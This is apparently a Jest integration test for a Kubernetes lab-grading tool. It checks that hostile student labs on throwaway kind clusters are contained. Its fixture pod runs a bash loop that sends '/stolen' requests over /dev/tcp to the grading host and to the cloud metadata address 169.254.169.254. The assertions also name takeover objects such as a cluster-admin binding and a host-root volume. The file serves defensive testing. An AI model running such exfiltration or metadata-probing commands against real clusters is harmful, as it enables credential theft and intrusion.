/**
 * Hostile labs against real kind clusters of their own (the offline node
 * image), through the CLI:
 *
 *  - a control run shows the attack path is real: with labgrader's node
 *    egress guard switched off and a CNI that enforces no NetworkPolicy, a
 *    student pod's connections reach the grading host (packets counted by
 *    the host's own packet filter);
 *  - the hostile lab (test/fixtures/hostile-lab plus the same exfiltrating
 *    pod) with the Lab 85 rubric: every cluster-scoped object and every way
 *    out is refused or defused at its line, the pod reaches neither the
 *    grading host nor 169.254.169.254 (zero packets, zero HTTP requests), the
 *    web service is still deployed, drilled and graded, and the cluster is
 *    deleted.
 *
 * Runs only where the offline node image and a Docker engine are present;
 * otherwise it says so loudly and is skipped. Adds packet counters to the
 * host's INPUT and FORWARD chains for its own port and removes them after.
 */
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import {
  KIND,
  KIND_ENV,
  KIND_ENV_NO_POLICY_CNI,
  clusterFindings,
  evidence,
  HOSTILE_LAB,
  grade,
  kindClusterContainers,
  measured,
  points,
  real,
  rubricWith,
  run,
  work,
} from './helpers/real-cluster.js';

const COMMENT = `labgrader-hostile-test-${process.pid}`;
const POD_CIDR = '10.244.0.0/16';

/** A pod that keeps trying to reach the grading host and the metadata address; Ready once the cluster's DNS answers it. */
function exfiltrator(gateway: string, port: number): string {
  return `apiVersion: apps/v1
kind: Deployment
metadata:
  name: exfil
  namespace: lab85
spec:
  replicas: 1
  selector:
    matchLabels: { app: exfil }
  template:
    metadata:
      labels: { app: exfil }
    spec:
      automountServiceAccountToken: false
      securityContext:
        runAsNonRoot: true
        runAsUser: 65532
        seccompProfile: { type: RuntimeDefault }
      containers:
        - name: exfil
          image: registry.k8s.io/kube-proxy:v1.34.4
          imagePullPolicy: IfNotPresent
          command:
            - bash
            - -c
            - |
              while true; do
                for target in ${gateway}/${port} 169.254.169.254/80; do
                  timeout 1 bash -c "echo -e 'GET /stolen HTTP/1.0\\r\\n\\r\\n' > /dev/tcp/$target" && echo "reached $target"
                done
                sleep 1
              done
          resources:
            requests: { cpu: 10m, memory: 16Mi }
            limits: { cpu: 100m, memory: 64Mi }
          readinessProbe:
            exec:
              command: ["getent", "hosts", "kubernetes.default.svc.cluster.local"]
            periodSeconds: 2
          securityContext:
            allowPrivilegeEscalation: false
            capabilities: { drop: ["ALL"] }
`;
}

let server: Server | undefined;
let port = 0;
let gateway = '';
let requests = 0;
const rules: string[][] = [];

/** Packets from the pod network the host saw, by rule (iptables -v counters). */
function packets(): { host: number; metadata: number } {
  const count = (chain: string) =>
    run('iptables', ['-w', '-L', chain, '-n', '-v', '-x'])
      .stdout.split('\n')
      .filter((l) => l.includes(COMMENT))
      .reduce((n, l) => n + Number(l.trim().split(/\s+/)[0]), 0);
  return { host: count('INPUT'), metadata: count('FORWARD') };
}

function resetCounters(): void {
  run('iptables', ['-w', '-Z', 'INPUT']);
  run('iptables', ['-w', '-Z', 'FORWARD']);
}

real('hostile labs on kind clusters of their own', () => {
  beforeAll(async () => {
    server = createServer((_req, res) => {
      requests += 1;
      res.end('stolen');
    });
    await new Promise<void>((resolve) => server!.listen(0, '0.0.0.0', resolve));
    port = (server.address() as AddressInfo).port;
    // kind's Docker network: its gateway is the grading host, as a pod would see it.
    const inspected = run('docker', ['network', 'inspect', 'kind', '-f', '{{range .IPAM.Config}}{{.Gateway}} {{end}}']);
    gateway = inspected.stdout.split(/\s+/).find((a) => /^\d+\.\d+\.\d+\.\d+$/.test(a)) ?? '172.18.0.1';
    for (const rule of [
      ['INPUT', '-s', POD_CIDR, '-p', 'tcp', '--dport', String(port), '-j', 'ACCEPT'],
      // Never let a pod's packet to 169.254.169.254 leave this machine, while counting it.
      ['FORWARD', '-s', POD_CIDR, '-d', '169.254.169.254', '-j', 'DROP'],
    ]) {
      const [chain, ...spec] = rule;
      const full = [chain!, ...spec.slice(0, -2), '-m', 'comment', '--comment', COMMENT, ...spec.slice(-2)];
      if (run('iptables', ['-w', '-I', ...full.slice(0, 1), '1', ...full.slice(1)]).status === 0) rules.push(full);
    }
  }, 60_000);

  afterAll(async () => {
    for (const rule of rules) run('iptables', ['-w', '-D', ...rule]);
    await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
  });

  it('control: without the node egress guard, a student pod’s packets reach the grading host', async () => {
    expect(rules).toHaveLength(2); // the counters are in place, or this test proves nothing
    const dir = path.join(work, 'egress-control');
    mkdirSync(path.join(dir, 'k8s'), { recursive: true });
    cpSync(path.join(HOSTILE_LAB, 'k8s/namespace.yaml'), path.join(dir, 'k8s/namespace.yaml'));
    writeFileSync(path.join(dir, 'k8s/exfil.yaml'), exfiltrator(gateway, port));
    const rubric = path.join(work, 'egress-control.yaml');
    writeFileSync(
      rubric,
      `apiVersion: labgrader.dev/v1
kind: Rubric
id: egress-control
title: Egress control
stages:
  cluster:
    timeoutSeconds: 300
    settings:
      target: { type: kind, clusterNamePrefix: lgt-egress }
      readyTimeoutSeconds: 90
      isolation: { nodeEgressGuard: false }
criteria:
  - id: deploys
    title: Deploys
    points: 1
    checks: [cluster/deploys-ready]
`,
    );
    resetCounters();
    // A node image's own static CNI: no NetworkPolicy enforced, so only the node egress guard could stop it.
    const { report } = await grade(dir, ['--cluster', 'kind', '--rubric', rubric], KIND_ENV_NO_POLICY_CNI);
    console.log(`egress control: ${measured(report)}; packets from pods: ${JSON.stringify(packets())}`);
    expect(evidence(report, 'ready')).toEqual([expect.stringMatching(/^Deployment lab85\/exfil: 1\/1 Ready/)]);
    expect(evidence(report, 'egress-guard')).toEqual([]);
    expect(packets().host).toBeGreaterThan(0);
  }, 600_000);

  it('refuses every attack of a hostile lab at its line, keeps its pods inside, grades the rest, deletes the cluster', async () => {
    const dir = path.join(work, 'hostile');
    cpSync(HOSTILE_LAB, dir, { recursive: true });
    writeFileSync(path.join(dir, 'k8s/exfil.yaml'), exfiltrator(gateway, port));
    const rubric = rubricWith('kind-hostile', [
      ['target: { type: kind }', 'target: { type: kind, clusterNamePrefix: lgt-hostile }'],
    ]);
    resetCounters();
    requests = 0;
    const { report } = await grade(dir, ['--cluster', 'kind', '--rubric', rubric], KIND_ENV);
    console.log(`hostile lab, kind: ${measured(report)}; packets from pods: ${JSON.stringify(packets())}`);

    // Kept inside: not one packet to the grading host or the metadata address, not one request.
    expect(packets()).toEqual({ host: 0, metadata: 0 });
    expect(requests).toBe(0);
    expect(evidence(report, 'egress-guard')).toEqual([
      expect.stringMatching(/^the lab's pods \(10\.244\.0\.0\/24\) may reach other pods and the API server only/),
    ]);
    // …while it ran the whole time, Ready (the cluster's DNS answered it).
    expect(evidence(report, 'ready')).toEqual(
      expect.arrayContaining([expect.stringMatching(/^Deployment lab85\/exfil: 1\/1 Ready/)]),
    );

    // Every attack refused at its line, with the reason.
    const findings = clusterFindings(report);
    expect(findings.filter((f) => f.includes(' was not applied: ')).map((f) => f.split(' was not applied')[0])).toEqual(
      [
        'error cluster/deploys-ready k8s/cluster-wide.yaml:3 CustomResourceDefinition backdoors.example.com',
        'error cluster/deploys-ready k8s/cluster-wide.yaml:18 ValidatingWebhookConfiguration see-everything',
        'error cluster/deploys-ready k8s/cluster-wide.yaml:35 FlowSchema exempt-me',
        'error cluster/deploys-ready k8s/cluster-wide.yaml:54 ClusterIssuer anyone',
        'error cluster/deploys-ready k8s/cluster-wide.yaml:78 ClusterRole node-reader',
        'error cluster/deploys-ready k8s/network.yaml:32 Endpoints lab85/web-elsewhere',
        'error cluster/deploys-ready k8s/network.yaml:62 NetworkPolicy lab85/labgrader-egress',
        'error cluster/deploys-ready k8s/rbac.yaml:9 RoleBinding lab85/web-edit',
        'error cluster/deploys-ready k8s/rbac.yaml:25 RoleBinding lab85/everyone-reads',
        'error cluster/deploys-ready k8s/takeover.yaml:10 ClusterRoleBinding lab-admin',
        'error cluster/deploys-ready k8s/takeover.yaml:20 Pod kube-system/rooter',
        'error cluster/deploys-ready k8s/takeover.yaml:31 PersistentVolume host-root',
        'error cluster/deploys-ready k8s/takeover.yaml:49 PersistentVolumeClaim lab85/host-root',
      ],
    );
    expect(findings).toContainEqual(
      expect.stringMatching(
        /^info cluster\/deploys-ready k8s\/network\.yaml:8 Service lab85\/web-nodeport: served as a ClusterIP Service while grading/,
      ),
    );
    // Nothing else failed: whatever was applied was accepted (the converted RBAC included), and the
    // web service got through every drill.
    expect(findings.filter((f) => f.startsWith('error') && !f.includes(' was not applied: '))).toEqual([]);
    expect(points(report)['survives-failure']).toBe(15);
    expect(evidence(report, 'isolation')[0]).toMatch(
      /^each namespace of the job has a default-deny egress NetworkPolicy \(labgrader-egress\), a ResourceQuota and a LimitRange; the lab's objects are applied as system:serviceaccount:labgrader-system:labgrader-applier, which the cluster refused, when asked first: a ClusterRoleBinding to cluster-admin: refused/,
    );

    // The cluster is gone.
    const cleanup = evidence(report, 'cleanup')[0] ?? '';
    const name = /^deleted kind cluster (lgt-hostile-[0-9a-f]{6}) in [\d.]+ s$/.exec(cleanup)?.[1];
    expect(name).toBeDefined();
    expect(run(KIND, ['get', 'clusters']).stdout.split('\n')).not.toContain(name);
    expect(kindClusterContainers()).not.toContain(name);
  }, 900_000);
});
